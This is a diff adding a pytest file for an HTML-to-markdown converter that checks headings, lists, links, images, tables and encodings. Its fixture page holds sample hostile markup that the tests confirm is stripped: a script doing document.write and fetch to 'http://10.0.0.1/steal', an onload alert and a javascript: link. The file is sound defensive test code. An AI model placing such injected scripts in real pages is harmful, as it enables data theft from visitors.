@@ -1,0 +1,102 @@
+"""HTML to markdown: structure kept, scripts dropped, links resolved against the final URL."""
+
+from __future__ import annotations
+
+from glmkit.tools.webpage import html_to_markdown
+
+PAGE = """<!doctype html>
+<html><head><title> Test  Page </title>
+<style>body { color: red }</style>
+<script>document.write("INJECTED"); fetch("http://10.0.0.1/steal")</script>
+</head>
+<body onload="alert('x')">
+<nav><a href="/home">Home</a> <a href="javascript:alert(1)">Evil</a></nav>
+<h1>Main <em>title</em></h1>
+<p>Some   <b>bold</b>
+   text with a <a href="page2.html">relative link</a>.<br>Second line.</p>
+<h2>Lists</h2>
+<ul><li>one</li><li>two<ul><li>two-a</li><li>two-b</li></ul></li></ul>
+<ol start="3"><li>three</li><li>four</li></ol>
+<img src="/img/cat.png" alt="A cat"><img data-src="lazy.jpg" alt="">
+<img src="data:image/png;base64,AAAA" alt="inline">
+<pre><code>def f():
+    return 1</code></pre>
+<blockquote><p>quoted</p></blockquote>
+<table><tr><th>k</th><th>v</th></tr><tr><td>a|b</td><td>2</td></tr></table>
+<noscript>Please enable JavaScript</noscript>
+<!-- a comment -->
+<template><p>template text</p></template>
+<div hidden>hidden text</div>
+</body></html>"""
+
+
+def render():
+    return html_to_markdown(PAGE, "https://example.com/dir/index.html")
+
+
+def test_title_and_headings():
+    page = render()
+    assert page.title == "Test Page"
+    assert "# Main *title*" in page.markdown
+    assert "## Lists" in page.markdown
+
+
+def test_inline_formatting_and_whitespace():
+    md = render().markdown
+    assert (
+        "Some **bold** text with a [relative link](https://example.com/dir/page2.html).\nSecond line." in md
+    )
+
+
+def test_nested_and_ordered_lists():
+    md = render().markdown
+    assert "- one\n- two\n  - two-a\n  - two-b" in md
+    assert "3. three\n4. four" in md
+
+
+def test_scripts_styles_and_hidden_content_are_dropped():
+    md = render().render()
+    for gone in ("INJECTED", "document.write", "color: red", "enable JavaScript", "a comment", "template text",
+                 "hidden text", "alert", "10.0.0.1"):  # fmt: skip
+        assert gone not in md, gone
+
+
+def test_links_resolve_against_the_page_url_and_unsafe_ones_are_plain_text():
+    page = render()
+    assert ("Home", "https://example.com/home") in page.links
+    assert all(not url.startswith("javascript") for _, url in page.links)
+    assert "Evil" in page.markdown and "[Evil]" not in page.markdown
+
+
+def test_images_are_inlined_and_listed():
+    page = render()
+    assert page.images == [
+        ("A cat", "https://example.com/img/cat.png"),
+        ("", "https://example.com/dir/lazy.jpg"),
+    ]
+    assert "![A cat](https://example.com/img/cat.png)" in page.markdown
+    text = page.render()
+    assert (
+        "## Images on this page\n\n1. https://example.com/img/cat.png (A cat)\n2. https://example.com/dir/lazy.jpg"
+        in text
+    )
+    assert "data:image" not in text
+
+
+def test_code_quotes_and_tables():
+    md = render().markdown
+    assert "```\ndef f():\n    return 1\n```" in md
+    assert "> quoted" in md
+    assert "| k | v |\n|---|---|\n| a\\|b | 2 |" in md
+
+
+def test_base_tag_and_bytes_with_declared_encoding():
+    html = '<html><head><base href="https://cdn.example.org/x/"></head><body><a href="y">é</a></body></html>'
+    page = html_to_markdown(html.encode("latin-1"), "https://example.com/", encoding="latin-1")
+    assert page.links == [("é", "https://cdn.example.org/x/y")]
+
+
+def test_render_header():
+    text = render().render(include_image_list=False)
+    assert text.startswith("# Test Page\nURL: https://example.com/dir/index.html\n\n")
+    assert "Images on this page" not in text
